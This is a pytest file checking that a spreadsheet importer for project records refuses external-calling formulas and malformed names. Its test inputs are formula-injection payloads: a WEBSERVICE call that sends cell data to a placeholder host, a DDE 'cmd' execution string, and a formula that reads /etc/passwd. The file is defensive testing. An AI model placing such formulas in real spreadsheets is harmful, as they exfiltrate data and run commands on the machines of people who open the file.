"""Cells that nobody may be harmed by: each is refused by name, and nothing is written."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from projects.models import Project
from tests.support.imports import Office, workbook

GOOD = ("双塔区", "能源", "谋划")


@pytest.fixture
def office(session: Session, tmp_path: Path) -> Office:
    """A reviewer of 双塔区, whose updates are published at once."""
    return Office(session, tmp_path)


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://x/"&A1)',
        "=cmd|'/c calc'!A0",
        "='[other.xlsx]Sheet1'!A1",
        '=HYPERLINK("http://x","y")',
        '=INDIRECT("[other.xlsx]Sheet1!A1")',
        '=_xlfn.WEBSERVICE("file:///etc/passwd")',
    ],
)
def test_a_formula_that_calls_out_is_refused_with_its_cell(
    session: Session, office: Office, formula: str
) -> None:
    one = office.bring(workbook([("甲项目", *GOOD, formula)]))
    (row,) = office.rows(one)
    assert row.verdict == "error"
    assert row.faults[0]["column"] == 4
    assert "引用外部" in row.faults[0]["message"]
    assert session.scalar(select(func.count()).select_from(Project)) == 0


@pytest.mark.parametrize("name", ["长" * 300, "长" * 4000, "\u200b"])
def test_a_name_that_cannot_be_is_refused_with_its_cell(office: Office, name: str) -> None:
    one = office.bring(workbook([(name, *GOOD, 5)]))
    verdicts = [(row.verdict, row.faults[0]["field"], row.faults[0]["column"]) for row in office.rows(one)]
    assert verdicts == [("error", "name", 0)]
